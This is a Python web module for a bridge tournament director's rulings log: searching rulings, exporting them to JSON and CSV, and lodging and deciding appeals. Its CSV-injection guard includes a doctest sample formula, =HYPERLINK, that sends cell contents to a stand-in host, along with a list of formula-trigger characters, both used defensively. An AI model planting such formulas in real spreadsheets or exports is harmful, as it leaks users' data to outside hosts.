"""The rulings log (Laws 81C, 92-93): every ruling with where, the facts, the Laws, the
options and the choice, any adjusted score, the director and the time; appeals
lodged within the correction period and their outcome; search and export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

from fastapi import APIRouter, Depends, Request
from fastapi.responses import HTMLResponse, RedirectResponse, Response
from sqlalchemy import false, func, or_

from ...i18n import message
from ..db import Director, EventRow, RulingRow, now, select
from ..limits import Id, PageError, form_data, whole_number
from ..web import check_csrf, lang_of, render, require_director

router = APIRouter()
FILTERS = ("q", "event", "board", "law", "director", "appeal")
#: the outcomes of an appeal (Law 93): the ruling stands, is changed, or is cancelled
OUTCOMES = ("upheld", "changed", "cancelled")
EXPORT_FIELDS = ("id", "created", "event_id", "section", "round", "table_no", "board",
                 "scenario", "kind", "edition", "facts", "laws", "options", "chooser", "choice",
                 "adjusted", "explanation", "notes", "director", "appeal_status", "appeal_by",
                 "appeal_reason", "appeal_lodged", "appeal_outcome", "appeal_decision",
                 "appeal_decided")


def _search(s, params) -> list[RulingRow]:
    """The rulings matching the filters: ``q`` (any text), ``event``, ``board``, ``law``
    (a reference: ``27`` also finds ``27B1``), ``director``, ``appeal`` (lodged/decided)."""
    q = select(RulingRow).order_by(RulingRow.id.desc())
    text = (params.get("q") or "").strip()
    if text:
        like = f"%{text.lower()}%"
        q = q.where(or_(func.lower(RulingRow.explanation).like(like),
                        func.lower(RulingRow.notes).like(like),
                        func.lower(RulingRow.kind).like(like),
                        func.lower(RulingRow.scenario).like(like),
                        func.lower(RulingRow.choice).like(like),
                        func.lower(RulingRow.adjusted).like(like)))
    for name, column in (("event", RulingRow.event_id), ("board", RulingRow.board)):
        text = (params.get(name) or "").strip()
        if text:                        # a number no ruling can have matches none
            n = whole_number(text)
            q = q.where(column == n if n is not None else false())
    if (params.get("director") or "").strip():
        q = q.where(RulingRow.director == params["director"].strip())
    if params.get("appeal") in ("lodged", "decided"):
        q = q.where(RulingRow.appeal_status == params["appeal"])
    rows = list(s.scalars(q))
    law = (params.get("law") or "").strip().upper()
    if law:
        rows = [r for r in rows if any(str(x).upper().startswith(law) for x in r.laws)]
    return rows


def _filters(request: Request) -> dict:
    return {k: request.query_params.get(k, "") for k in FILTERS}


@router.get("/rulings", response_class=HTMLResponse)
def log(request: Request, d: Director = Depends(require_director)):
    params = _filters(request)
    with request.app.state.store.session() as s:
        rows = _search(s, params)
        events = {ev.id: ev.name for ev in s.scalars(select(EventRow))}
        query = "&".join(f"{k}={v}" for k, v in params.items() if v)
        return render(request, "rulings.html", rows=rows, params=params, events=events,
                      query=query)


def _row_dict(r: RulingRow) -> dict:
    out = {}
    for f in EXPORT_FIELDS:
        v = getattr(r, f)
        out[f] = v.isoformat() if isinstance(v, dt.datetime) else v
    return out


@router.get("/rulings/export.json")
def export_json(request: Request, d: Director = Depends(require_director)):
    params = _filters(request)
    with request.app.state.store.session() as s:
        data = [_row_dict(r) for r in _search(s, params)]
    return Response(json.dumps(data, ensure_ascii=False, indent=1),
                    media_type="application/json",
                    headers={"Content-Disposition": 'attachment; filename="rulings.json"'})


#: the first characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """A CSV cell that no spreadsheet runs as a formula: a text starting with ``=``,
    ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'`` in front (OWASP's rule
    for CSV injection); numbers and other texts are unchanged.

    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1,"see")'))
    '=HYPERLINK("http://x.example/?"&A1,"see")
    >>> spreadsheet_safe("-1"), spreadsheet_safe(-1), spreadsheet_safe("4S= N")
    ("'-1", -1, '4S= N')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


@router.get("/rulings/export.csv")
def export_csv(request: Request, d: Director = Depends(require_director)):
    """The rulings found, as CSV (UTF-8 with a byte-order mark, for spreadsheets); every
    text cell is :func:`spreadsheet_safe`."""
    params = _filters(request)
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(EXPORT_FIELDS)
    with request.app.state.store.session() as s:
        for r in _search(s, params):
            row = _row_dict(r)
            w.writerow([spreadsheet_safe(json.dumps(v, ensure_ascii=False)
                                         if isinstance(v, (list, dict))
                                         else ("" if v is None else v))
                        for v in row.values()])
    return Response("\ufeff" + buf.getvalue(), media_type="text/csv; charset=utf-8",
                    headers={"Content-Disposition": 'attachment; filename="rulings.csv"'})


def _ruling(s, ruling_id: int) -> RulingRow:
    r = s.get(RulingRow, ruling_id)
    if r is None:
        raise PageError(404, "ui.error.no_ruling", id=ruling_id)
    return r


def appeal_deadline(s, r: RulingRow) -> dt.datetime | None:
    """When the right to appeal this ruling lapses (Law 92B): the event's correction
    period, once its results are published; ``None`` while it is open-ended."""
    if r.event_id is None:
        return None
    ev = s.get(EventRow, r.event_id)
    if ev is None or ev.correction_until is None:
        return None
    until = ev.correction_until
    return until if until.tzinfo else until.replace(tzinfo=dt.timezone.utc)


def _pairs(r: RulingRow, ev) -> list[tuple[str, str, str]]:
    """The pairs (or teams) at the ruling's table: (ns|ew, number, names)."""
    if ev is None or r.round is None or r.table_no is None:
        return []
    from ..console.entries import names_by_number
    section = r.section or "A"
    st = next((x for x in ev.sittings if x.section == section and x.round == r.round
               and x.table_no == r.table_no), None)
    if st is None:
        return []
    names = names_by_number(ev)
    return [(side, p, names.get((section, p), "")) for side, p in (("ns", st.ns), ("ew", st.ew))
            if p]


@router.get("/rulings/{ruling_id}", response_class=HTMLResponse)
def detail(request: Request, ruling_id: Id, d: Director = Depends(require_director)):
    with request.app.state.store.session() as s:
        r = _ruling(s, ruling_id)
        ev = s.get(EventRow, r.event_id) if r.event_id else None
        return render(request, "ruling.html", r=r, ev=ev, pairs=_pairs(r, ev), deadline=appeal_deadline(s, r),
                      outcomes=OUTCOMES, errors={}, form={},
                      saved=request.query_params.get("saved"))


@router.post("/rulings/{ruling_id}/appeal", response_class=HTMLResponse)
def lodge(request: Request, ruling_id: Id, d: Director = Depends(require_director),
          form=Depends(form_data)):
    """Lodge an appeal (Law 92A) within the correction period (92B)."""
    check_csrf(request, form.get("csrf"))
    values = {k: str(form.get(k, "")).strip() for k in ("appeal_by", "appeal_reason")}
    lang = lang_of(request)
    with request.app.state.store.transaction() as s:
        r = _ruling(s, ruling_id)
        deadline = appeal_deadline(s, r)
        error = None
        if r.appeal_status:
            error = message("ui.appeal.already", lang)
        elif deadline is not None and now() > deadline:
            error = message("ui.appeal.too_late", lang, until=deadline.strftime("%H:%M"))
        elif not values["appeal_by"]:
            error = message("ui.appeal.need_by", lang)
        elif len(values["appeal_by"]) > 120:      # the column's width (ruling.appeal_by)
            error = (f"{message('ui.appeal.by', lang)}: "
                     f"{message('ui.err.too_long', lang, n=120, length=len(values['appeal_by']))}")
        if error:
            ev = s.get(EventRow, r.event_id) if r.event_id else None
            return render(request, "ruling.html", status_code=400, r=r, ev=ev,
                          pairs=_pairs(r, ev),
                          deadline=deadline, outcomes=OUTCOMES, errors={"appeal": error},
                          form=values, saved=None)
        r.appeal_status, r.appeal_by = "lodged", values["appeal_by"]
        r.appeal_reason, r.appeal_lodged = values["appeal_reason"], now()
    return RedirectResponse(f"/rulings/{ruling_id}?saved=appeal", status_code=303)


@router.post("/rulings/{ruling_id}/decide", response_class=HTMLResponse)
def decide(request: Request, ruling_id: Id, d: Director = Depends(require_director),
           form=Depends(form_data)):
    """Record the outcome of a lodged appeal (Law 93)."""
    check_csrf(request, form.get("csrf"))
    values = {k: str(form.get(k, "")).strip() for k in ("appeal_outcome", "appeal_decision")}
    with request.app.state.store.transaction() as s:
        r = _ruling(s, ruling_id)
        error = None
        if r.appeal_status != "lodged":
            error = message("ui.appeal.not_lodged", lang_of(request))
        elif values["appeal_outcome"] not in OUTCOMES:
            error = message("ui.appeal.need_outcome", lang_of(request))
        if error:
            ev = s.get(EventRow, r.event_id) if r.event_id else None
            return render(request, "ruling.html", status_code=400, r=r, ev=ev,
                          pairs=_pairs(r, ev),
                          deadline=appeal_deadline(s, r), outcomes=OUTCOMES,
                          errors={"decide": error}, form=values, saved=None)
        r.appeal_status = "decided"
        r.appeal_outcome, r.appeal_decision = values["appeal_outcome"], values["appeal_decision"]
        r.appeal_decided = now()
    return RedirectResponse(f"/rulings/{ruling_id}?saved=decided", status_code=303)

